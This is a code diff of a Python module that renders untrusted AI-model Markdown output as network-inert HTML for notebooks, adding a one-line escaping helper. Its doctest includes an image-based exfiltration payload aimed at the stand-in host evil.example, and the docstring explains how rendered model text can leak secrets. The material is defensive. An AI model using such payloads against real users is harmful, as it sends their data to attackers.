@@ -1,7 +1,7 @@
 """Model output is untrusted text: it is shown so that showing it loads nothing from the network.
 
     >>> answer_html("See ![chart](https://evil.example/?q=secret) <img src=x>")
-    '<div class="lfwb-answer mathjax_ignore tex2jax_ignore"><p>See <span class="lfwb-image">🖼 chart (image not loaded: <code>https://evil.example/?q=secret</code>)</span> &lt;img src=x&gt;</p>\\n</div>'
+    '<div class="lfwb-answer mathjax_ignore tex2jax_ignore"><p>See <span class="lfwb-image">🖼 chart (image not loaded: <code>https://evil.example/?q=secret</code>)</span> &lt;img src=x&gt;</p>&#10;</div>'
     >>> text_html("a <b>")                  # plain text: escaped, kept as written
     '<div class="lfwb-text mathjax_ignore tex2jax_ignore" style="white-space:pre-wrap">a &lt;b&gt;</div>'
 
@@ -11,9 +11,11 @@ would send the secret as the cell renders. So no face emits a model's text as te
 `answer_html` renders it here, to text/html, with one CommonMark parser (markdown-it-py, imported
 on first use): raw HTML is shown as text, an image becomes a line naming its URL (never an
 `<img>`), fenced code keeps its content (escaped), and links stay links (only http, https, mailto
-and relative ones; opened in a new tab, without a referrer). Markdown rewritten to be safe was
-not an option: it must agree with every renderer on where code ends, and they differ (JupyterLab's
-marked ends a URL after a backtick, a list item closes a fence that CommonMark keeps open).
+and relative ones; opened in a new tab, without a referrer). The HTML has no line breaks
+(`one_line`), so it stays one HTML block in nbconvert's Markdown too. Markdown rewritten to be
+safe was not an option: it must agree with every renderer on where code ends, and they differ
+(JupyterLab's marked reads a backtick in a bare URL as part of it, CommonMark as code; a list
+item ends a fence that a reader of the top level alone keeps open).
 
 MathJax typesets HTML outputs and widgets too, and its `\\style`, `\\bbox` and `\\mmlToken` take
 CSS (JupyterLab 4's MathJax drops a `url()` in it; nbconvert's MathJax 2 need not): everything
@@ -42,17 +44,29 @@ def answer_html(text: str, *, heading: str | None = None, note: str | None = Non
     """A model's Markdown answer as HTML that loads nothing; `heading` (bold, above) and `note`
     (italic, under a rule) are plain text, escaped."""
     if len(text) > MARKDOWN_LIMIT:
-        body = f'<div style="white-space:pre-wrap">{html.escape(text)}</div>'
+        body = f'<div style="white-space:pre-wrap">{escape(text)}</div>'
     else:
-        body = _markdown().render(text)
-    top = f"<p><b>{html.escape(heading)}</b></p>" if heading else ""
-    bottom = f"<hr><p><em>{html.escape(note)}</em></p>" if note else ""
+        body = one_line(_markdown().render(text))
+    top = f"<p><b>{escape(heading)}</b></p>" if heading else ""
+    bottom = f"<hr><p><em>{escape(note)}</em></p>" if note else ""
     return f'<div class="lfwb-answer {NO_MATH}">{top}{body}{bottom}</div>'
 
 
 def text_html(text: str, style: str = "white-space:pre-wrap") -> str:
     """Untrusted plain text as HTML: escaped, in an element MathJax skips. `style` is lfwb's own."""
-    return f'<div class="lfwb-text {NO_MATH}" style="{style}">{html.escape(text)}</div>'
+    return f'<div class="lfwb-text {NO_MATH}" style="{style}">{escape(text)}</div>'
+
+
+def escape(text: str) -> str:
+    """Text for an HTML element or attribute: escaped, and on one line (see `one_line`)."""
+    return one_line(html.escape(text))
+
+
+def one_line(markup: str) -> str:
+    """HTML with its line breaks as character references: it shows the same, and has no blank
+    line, which in a Markdown file (nbconvert --to markdown) would end the HTML block and let
+    the answer's text after it be read as Markdown, images and all."""
+    return markup.replace("\r", "&#13;").replace("\n", "&#10;")
 
 
 @lru_cache(maxsize=1)
@@ -81,8 +95,8 @@ def _image(renderer: Any, tokens: list, idx: int, options: Any, env: Any) -> str
     if len(src) > SHOWN_URL:
         src = src[: SHOWN_URL - 1] + "…"
     label = f"🖼 {alt} " if alt else "🖼 "
-    return (f'<span class="lfwb-image">{html.escape(label)}(image not loaded: '
-            f"<code>{html.escape(src)}</code>)</span>")
+    return (f'<span class="lfwb-image">{escape(label)}(image not loaded: '
+            f"<code>{escape(src)}</code>)</span>")
 
 
 def _link_open(renderer: Any, tokens: list, idx: int, options: Any, env: Any) -> str:
